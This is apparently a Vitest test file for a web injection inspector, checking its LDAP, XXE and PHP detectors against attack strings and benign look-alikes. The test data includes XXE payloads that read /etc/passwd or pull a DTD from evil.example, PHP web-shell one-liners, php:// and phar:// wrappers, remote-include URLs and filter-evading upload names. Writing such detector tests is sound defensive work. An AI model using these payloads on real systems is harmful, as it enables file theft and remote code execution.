import { describe, expect, it } from 'vitest';
import { createInjectionInspector } from '../create-injection-inspector.js';

const inspector = createInjectionInspector();
const fires = (cls: string, value: string, location = 'query.q') =>
  inspector.inspectValue(value, location).some((h) => h.class === cls);

describe('ldap detector', () => {
  it.each(['*)(uid=*))(|(uid=*', 'admin)(|(password=*)', 'x)(&)', '*)(objectClass=*'])('fires on %j', (v) => {
    expect(fires('ldap', v)).toBe(true);
  });
  it.each(['(see above) (2)', 'smile :)(', 'f(x)(y)'])('does not fire on %j', (v) => {
    expect(fires('ldap', v)).toBe(false);
  });
});

describe('xxe detector', () => {
  it.each([
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>',
  ])('fires on %j', (v) => {
    expect(fires('xxe', v, 'body')).toBe(true);
  });
  it.each([
    '<?xml version="1.0" encoding="UTF-8"?><order><id>1</id></order>',
    '<!DOCTYPE html><html><body>hi</body></html>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
  ])('does not fire on %j', (v) => {
    expect(fires('xxe', v, 'body')).toBe(false);
  });
});

describe('php detector', () => {
  it.each([
    '<?php system($_GET["c"]); ?>',
    '<?= `id` ?>',
    'php://filter/convert.base64-encode/resource=index.php',
    'phar://uploads/x.jpg/shell',
    'expect://id',
    'system("id")',
    'exec/**/("id")',
    '$_SERVER["HTTP_HOST"]',
    '${@eval($_POST[1])}',
    'http://evil.example/shell.txt?',
    'base64_decode($x)',
  ])('fires on %j', (v) => {
    expect(fires('php', v)).toBe(true);
  });
  it.each([
    'Please include (if possible) your address',
    'Meeting with the exec (CEO) team',
    'the file system is full',
  ])('does not fire on %j', (v) => {
    expect(fires('php', v)).toBe(false);
  });
});

describe('php detector: uploads, open tags, calls, configuration, remote includes', () => {
  const php = (value: string) =>
    createInjectionInspector()
      .inspectValue(value, 'query.q')
      .find((h) => h.class === 'php')?.ruleId;
  const uploaded = (name: string) =>
    createInjectionInspector()
      .inspect({ headers: { 'x-file-name': name } })
      .find((h) => h.class === 'php')?.ruleId;

  it.each([
    ['shell.php', 'php-script-upload'],
    ['avatar.phtml ', 'php-script-upload'],
    ['x.php5...', 'php-script-upload'],
    ['photo. php', 'php-script-upload'],
    ['/tmp/sess_0123456789abcdefghijkl', 'php-session-upload'],
  ])('fires on the uploaded file name %j (%s)', (name, ruleId) => {
    expect(uploaded(name)).toBe(ruleId);
  });

  it.each(['report.pdf', 'php-book.pdf', 'document.pdf', 'session_notes.txt'])(
    'does not fire on the uploaded file name %j',
    (name) => {
      expect(createInjectionInspector().inspect({ headers: { 'x-file-name': name } })).toEqual([]);
    },
  );

  it('inspects file names in multipart bodies', () => {
    const body =
      '--b0undary\r\nContent-Disposition: form-data; name="avatar"; filename="me.phar"\r\nContent-Type: image/png\r\n\r\nxyz\r\n--b0undary--\r\n';
    const hit = createInjectionInspector()
      .inspect({ body })
      .find((h) => h.class === 'php');
    expect(hit?.location).toBe('body.avatar[filename]');
  });

  it.each([
    ['<? echo 1; ?>', 'php-open-tag'],
    ['[php]echo 1;[/php]', 'php-open-tag'],
    ['passthru($_GET[0])', 'php-superglobal'],
    ['fopen ("x", "w")', 'php-function-call'],
    ['$_x["a"]/**/(1)', 'php-variable-function'],
    ["('sys'.'tem')('id');", 'php-expression-call'],
    ['allow_url_include=1', 'php-ini-directive'],
    ['https://evil.example/shell.txt?', 'php-remote-include'],
    ['ftp://203.0.113.9/x', 'php-remote-include'],
  ])('fires on %j (%s)', (value, ruleId) => {
    expect(php(value)).toBe(ruleId);
  });

  it.each([
    '<?xml version="1.0"?><a/>',
    '<?xpacket begin="" id="x"?>',
    '$5 (five dollars)',
    'color=blue',
    'https://example.com/search?q=a',
    'the file (attached) is large',
  ])('does not fire on %j', (value) => {
    expect(php(value)).toBeUndefined();
  });
});
